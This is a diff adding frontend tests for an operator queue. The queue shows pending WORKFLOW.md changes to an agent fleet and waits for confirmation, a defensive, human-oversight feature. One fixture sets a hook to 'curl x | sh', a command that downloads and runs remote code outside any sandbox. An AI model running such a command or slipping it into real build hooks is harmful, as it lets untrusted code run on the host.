@@ -3,7 +3,7 @@ import { act, cleanup, fireEvent, screen, waitFor, within } from '@testing-libra
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import type { Approval } from '../../../shared/api/schemas.js';
 import { applyMessages, initialFleetState } from '../../stores/fleet-state.js';
-import { approval } from '../fleet/fleet-fixtures.js';
+import { approval, workflow } from '../fleet/fleet-fixtures.js';
 import { renderWithServices, type Responder } from '../fleet/render-with-services.js';
 import { OperatorQueue } from './OperatorQueue.js';
 
@@ -137,5 +137,41 @@ describe('OperatorQueue', () => {
     const v2 = screen.getByTestId('request-f1');
     expect(within(v2).getByTestId('detail-paths').textContent).toContain('not named in the request');
     expect(within(v2).getByTestId('detail-grant').textContent).toBe('write access/ws/out');
+  });
+});
+
+describe('OperatorQueue: a WORKFLOW.md change that waits for confirmation (issue 7 H2)', () => {
+  const pending = {
+    id: '4',
+    detected_at: inMs(0),
+    changes: [
+      { key: 'agent.max_turns', before: '20', after: '12', guarded: null },
+      { key: 'hooks.before_run', before: 'npm ci', after: 'curl x | sh', guarded: 'a shell script run outside any sandbox' },
+    ],
+  };
+
+  it('lists the guarded keys before and after, and applies the change on request', async () => {
+    const applied = { ...workflow(), pending_change: null };
+    const { calls, store } = renderWithServices(<OperatorQueue />, { ...initialFleetState, connection: 'open', loaded: true, workflow: { ...workflow(), pending_change: pending } }, (c) =>
+      c.method === 'POST' ? { status: 200, body: applied } : undefined,
+    );
+    const card = screen.getByTestId('workflow-change');
+    const guarded = within(card).getByTestId('workflow-change-guarded');
+    expect(within(guarded).getByLabelText('hooks.before_run before').textContent).toBe('npm ci');
+    expect(within(guarded).getByLabelText('hooks.before_run after').textContent).toBe('curl x | sh');
+    expect(guarded.textContent).toContain('outside any sandbox');
+    expect(within(card).getByTestId('workflow-change-other').textContent).toContain('agent.max_turns');
+    fireEvent.click(within(card).getByTestId('workflow-change-apply'));
+    await waitFor(() => expect(screen.queryByTestId('workflow-change')).toBeNull());
+    expect(calls).toEqual([{ method: 'POST', path: '/api/v1/workflow/pending/4', body: { decision: 'apply' } }]);
+    expect(store.getState().workflow?.pending_change).toBeNull();
+  });
+
+  it('says so when the file changed again before the answer', async () => {
+    renderWithServices(<OperatorQueue />, { ...initialFleetState, connection: 'open', loaded: true, workflow: { ...workflow(), pending_change: pending } }, (c) =>
+      c.method === 'POST' ? { status: 404, body: { error: { code: 'workflow_change_not_found', message: 'the change waiting now is 5' } } } : undefined,
+    );
+    fireEvent.click(screen.getByTestId('workflow-change-reject'));
+    await waitFor(() => expect(screen.getByTestId('workflow-change-error').textContent).toContain('The file changed again'));
   });
 });
